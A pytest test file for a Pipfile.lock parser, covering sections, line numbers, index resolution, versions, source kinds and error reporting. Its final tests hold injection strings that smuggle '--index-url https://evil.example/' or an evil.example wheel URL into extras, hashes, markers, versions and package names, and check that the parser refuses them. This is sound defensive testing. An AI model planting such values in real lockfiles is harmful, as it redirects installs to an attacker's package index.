"""Pipfile.lock: sections, named sources, lines, and what is refused."""

from __future__ import annotations

import json
from typing import Any

import pytest

from fallback_review.lockfiles.formats.pipfile import FORMAT
from fallback_review.lockfiles.text import LockfileError, Text
from fallback_review.lockfiles.usual_names import CLAIMS
from fallback_review.model import Artifact, LockedPackage, Lockfile, SourceKind

A = "a" * 64
COMMIT = "0123456789abcdef0123456789abcdef01234567"
META = {
    "hash": {"sha256": "0"},
    "pipfile-spec": 6,
    "requires": {"python_version": "3.12"},
    "sources": [
        {"name": "pypi", "url": "https://pypi.test/simple", "verify_ssl": True},
        {"name": "own", "url": "https://u:p@index.example/simple", "verify_ssl": True},
    ],
}


def read(document: Any, **dumping: Any) -> Lockfile:
    text = document if isinstance(document, str) else json.dumps(document, **dumping)
    return FORMAT.parse(Text(path="Pipfile.lock", text=text))


def only(entry: dict[str, Any], meta: dict[str, Any] | None = None) -> LockedPackage:
    lock = read({"_meta": META if meta is None else meta, "default": {"Foo.Bar": entry}})
    assert not lock.notices
    (package,) = lock.packages
    return package


def test_every_section_but_meta_holds_packages_with_their_lines() -> None:
    lock = read(
        {
            "_meta": META,
            "default": {"a": {"version": "==1"}},
            "develop": {"a": {"version": "==1", "markers": "os_name == 'nt'"}},
            "docs": {"B_c": {"version": "==2", "hashes": [f"sha256:{A.upper()}"]}},
        },
        indent=4,
    )
    assert [(p.name, p.version, p.line) for p in lock.packages] == [
        ("a", "1", 24),
        ("a", "1", 29),
        ("b-c", "2", 35),
    ]
    assert lock.packages[1].marker == 'os_name == "nt"'
    assert lock.packages[1].extra == {"develop": {"markers": "os_name == 'nt'"}}
    assert lock.packages[2].artifacts == (Artifact(hashes=(f"sha256:{A}",)),)
    assert [(i.role, i.name, i.url, i.line, i.has_credentials) for i in lock.indexes] == [
        ("source", "pypi", "https://pypi.test/simple", 11, False),
        ("source", "own", "https://index.example/simple", 16, True),
    ]
    assert lock.requires_python == "==3.12.*"
    assert lock.header == {"_meta": META}
    assert "u:p@" not in repr(lock)


def test_lines_are_exact_in_odd_layouts() -> None:
    text = (
        '{"default":{"x":{"version":"==1","markers":"a \\" { [ \\\\"},\n"\\u0079"\n:{"version":"==2"},"deep":{"extras":'
        '[\n"default"]}},"_meta":\n{"sources":[{"url":"https://a.example"},\n\n{"url":"https://b.example"}],'
        '"sources2":[{}]},"develop":{"z":\n{}}}'
    )
    lock = read(text)
    assert [(p.name, p.line) for p in lock.packages] == [("x", 1), ("y", 2), ("deep", 3), ("z", 7)]
    assert [index.line for index in lock.indexes] == [5, 7]


# Pipenv: an entry without an index is installed from the first source.
@pytest.mark.parametrize(
    ("index", "location"),
    [
        (None, "https://pypi.test/simple"),
        ("pypi", "https://pypi.test/simple"),
        ("own", "https://index.example/simple"),
        ("https://t:s@third.example/simple", "https://third.example/simple"),
    ],
)
def test_the_index_of_an_entry(index: str | None, location: str) -> None:
    entry = {"version": "==1"} | ({"index": index} if index else {})
    (package,) = read({"_meta": META, "default": {"x": entry}}).packages
    assert package.source.kind is SourceKind.REGISTRY
    assert package.source.location == location


def test_sources_may_lack_names_or_be_missing() -> None:
    assert only({"version": "==1"}, {"sources": [{"url": "https://a.example"}]}).source.location == (
        "https://a.example"
    )
    assert only({"version": "==1"}, {}).source.location is None
    assert read({"default": {}}).requires_python is None
    assert read({"_meta": {"requires": {"python_full_version": "3.12.1"}}}).requires_python == "==3.12.1"
    assert read({"_meta": {"requires": {}}}).requires_python is None


def test_an_index_that_is_no_source_is_said() -> None:
    lock = read({"_meta": META, "default": {"x": {"version": "==1", "index": "gone"}}})
    assert lock.packages[0].source.location is None
    assert "it names the index 'gone', which is not one" in (lock.packages[0].refused or "")


@pytest.mark.parametrize(
    ("text", "version", "specifier"),
    [
        ("==1.0", "1.0", None),
        ("===1.0", "1.0", None),
        ("== 1.0", "1.0", None),
        ("==1.*", None, "==1.*"),
        ("*", None, None),
        ("", None, None),
        (">=1, <2", None, "<2,>=1"),
        ("==1,<2", None, "<2,==1"),
    ],
)
def test_versions(text: str, version: str | None, specifier: str | None) -> None:
    package = only({"version": text})
    assert (package.version, package.specifier) == (version, specifier)


@pytest.mark.parametrize(
    ("entry", "kind", "location", "commit", "reference"),
    [
        ({"git": "https://u:p@g.test/x", "ref": COMMIT}, "git", "https://g.test/x", COMMIT, None),
        ({"git": "https://g.test/x", "ref": "dev"}, "git", "https://g.test/x", None, "dev"),
        ({"hg": "https://g.test/x"}, "hg", "https://g.test/x", None, None),
        ({"file": "https://u:p@f.test/x-1.zip"}, "url", "https://f.test/x-1.zip", None, None),
        ({"path": ".", "editable": True}, "editable", ".", None, None),
        ({"path": "./lib"}, "directory", "./lib", None, None),
        ({"path": "./x-1-py3-none-any.whl"}, "path", "./x-1-py3-none-any.whl", None, None),
        ({"file": "./x-1.tar.gz"}, "path", "./x-1.tar.gz", None, None),
    ],
)
def test_sources(
    entry: dict[str, Any], kind: str, location: str, commit: str | None, reference: str | None
) -> None:
    package = only(entry | {"hashes": [f"sha256:{A}"]})
    source = package.source
    assert (source.kind, source.location, source.commit, source.reference) == (
        kind,
        location,
        commit,
        reference,
    )
    assert package.local == (kind in ("editable", "directory"))
    assert package.hashes == {f"sha256:{A}"}
    assert package.version is None
    if kind == "url":
        assert package.artifacts[0].url == location
        assert package.artifacts[0].filename == "x-1.zip"
    if kind == "path":
        assert package.artifacts[0].path == location


def test_markers_of_old_files_stand_in_keys_of_their_own() -> None:
    assert only({"sys_platform": "== 'win32'"}).marker == 'sys_platform == "win32"'
    assert only({"os_name": "== 'nt'"}).marker is None
    assert only({"markers": "extra == 'x'", "sys_platform": "== 'win32'"}).marker == 'sys_platform == "win32"'
    both = only({"markers": "sys_platform == 'x' or a == 'b'", "python_version": "< '3'"})
    assert both.marker == "python_version < \"3\" and sys_platform == 'x' or a == 'b'"


@pytest.mark.parametrize(
    ("text", "reason", "line"),
    [
        ("", "not JSON", 1),
        ('{"a": \n nope}', "not JSON", 2),
        ("[1]", "its root is not an object", None),
        ('{"default": {"x": {}, "x": {"version": "==1"}}}', "the key 'x' appears twice", None),
        ('{"default": []}', "default: must be a table", None),
        ('{\n"default": {\n"x": 1}}', "default.x: must be a table", 3),
        ('{"default": {" ": {}}}', "default: a package without a name", 1),
        ('{"default": {\n"x": {"version": 1}}}', "default.x.version: must be a string", 2),
        ('{"default": {"x": {"version": "one"}}}', "default.x.version: is neither a version", 1),
        ('{"default": {"x": {"hashes": "a"}}}', "default.x.hashes: must be an array", 1),
        ('{"default": {"x": {"hashes": [1]}}}', "default.x.hashes[0]: must be a string", 1),
        ('{"default": {"x": {"path": ".", "editable": "yes"}}}', "default.x.editable: must be true", 1),
        ('{"_meta": {"sources": [1]}}', "_meta.sources[0]: must be a table", None),
        ('{"_meta": {"sources": [{}]}}', "_meta.sources[0].url: is missing", None),
        ('{"_meta": 1}', "_meta: must be a table", None),
        ('{"a": ' + "[" * 100_000, "nested too deeply", None),
        ('{"a": ' + "1" * 5000 + "}", "a number that is too long", None),
        ('{"default": {"x": {"version": "==\\ud800"}}}', "half of a character", None),
    ],
)
def test_bad_input_names_the_place(text: str, reason: str, line: int | None) -> None:
    with pytest.raises(LockfileError) as caught:
        read(text)
    assert reason in caught.value.reason
    assert caught.value.line == line
    assert caught.value.path == "Pipfile.lock"
    assert "\n" not in str(caught.value)


def test_escaped_characters_beyond_the_first_plane_are_text() -> None:
    package = read('{"default": {"x": {"version": "==1", "markers": "\\ud83d\\ude00"}}}').packages[0]
    assert package.marker == "\N{GRINNING FACE}"


def test_recognition() -> None:
    assert CLAIMS["Pipfile.lock"]("a/Pipfile.lock")
    assert CLAIMS["Pipfile.lock"]("Pipfile.dev.lock")
    assert not CLAIMS["Pipfile.lock"]("Pipfile")
    assert not CLAIMS["Pipfile.lock"]("my.lock")
    assert FORMAT.looks_like(json.dumps({"_meta": {}, "default": {}}, indent=2))
    assert not FORMAT.looks_like('{"dependencies": {}}')
    assert not FORMAT.looks_like("six==1")


EVIL = "https://evil.example/x-1-py3-none-any.whl"


@pytest.mark.parametrize(
    ("entry", "reason"),
    [
        ({"extras": [f"] @ {EVIL} #"]}, "extras: holds something that is not an extra's name"),
        (
            {"extras": ["a]\n--index-url https://evil.example/\nx["]},
            "holds something that is not an extra's name",
        ),
        (
            {"hashes": ["sha256:aa --index-url https://evil.example/"]},
            "hashes: holds something that is not a hash",
        ),
        ({"hashes": ["sha256:aa\n--index-url https://evil.example/"]}, "holds something that is not a hash"),
        (
            {"markers": "os_name == 'a'\n--index-url https://evil.example/"},
            "markers: has more than one",
        ),
        ({"os_markers": f"os_name == 'a'\r{EVIL}"}, "os_markers: has more than one line"),
        ({"version": f"==1\n{EVIL}"}, "version: has more than one line"),
    ],
)
def test_what_pipenv_would_hand_to_pip_beside_the_entry_is_refused(
    entry: dict[str, Any], reason: str
) -> None:
    """Measured: Pipenv 2026 installs the first from evil.example."""
    with pytest.raises(LockfileError, match=reason):
        only({"version": "==1"} | entry)


def test_a_key_that_is_no_name_is_refused() -> None:
    with pytest.raises(LockfileError, match="is not a package name") as caught:
        read(json.dumps({"default": {f"x @ {EVIL} #": {"version": "==1"}}}, indent=1))
    assert caught.value.line == 3


def test_a_key_that_stands_twice_with_one_value_is_taken_as_pipenv_takes_it() -> None:
    twice = '{"_meta": {"sources": []}, "default": {"x": {"version": "==1"},\n"x": {"version": "==1"}}}'
    assert [(each.name, each.version) for each in read(twice).packages] == [("x", "1")]
